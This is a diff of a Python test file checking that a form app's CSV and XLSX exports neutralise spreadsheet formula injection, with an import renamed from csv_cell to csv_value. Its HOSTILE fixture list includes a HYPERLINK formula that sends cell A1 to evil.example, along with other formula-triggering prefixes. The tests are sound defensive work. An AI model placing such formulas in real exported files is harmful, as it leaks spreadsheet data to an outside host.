@@ -13,8 +13,9 @@ from sqlalchemy import select
 from form_worker.accounts.models import AuditEntry
 from form_worker.applications.models import Application
 from form_worker.applications.tables import SENSITIVE_HEADER
-from form_worker.core.downloads import csv_cell, write_csv, write_xlsx
+from form_worker.core.downloads import write_csv, write_xlsx
 from site_builder.clock import local_time
+from site_builder.spreadsheet.cells import csv_value
 from tests.form_worker.conftest import OPEN_POSITION, StaffClient, csrf_token, drain
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"]
@@ -34,7 +35,7 @@ def test_csv_starts_with_a_bom_and_keeps_chinese() -> None:
 def test_csv_quotes_what_would_start_a_formula(value: str) -> None:
     rows = list(csv.reader(io.StringIO(write_csv(["值"], [[value]]).decode("utf-8-sig"), newline="")))
     assert rows[1][0] == "'" + value
-    assert csv_cell("普通文字") == "普通文字" and csv_cell(None) == "" and csv_cell(3) == "3"
+    assert csv_value("普通文字") == "普通文字" and csv_value(None) == "" and csv_value(3) == "3"
 
 
 def test_xlsx_keeps_every_hostile_value_a_string_cell() -> None:
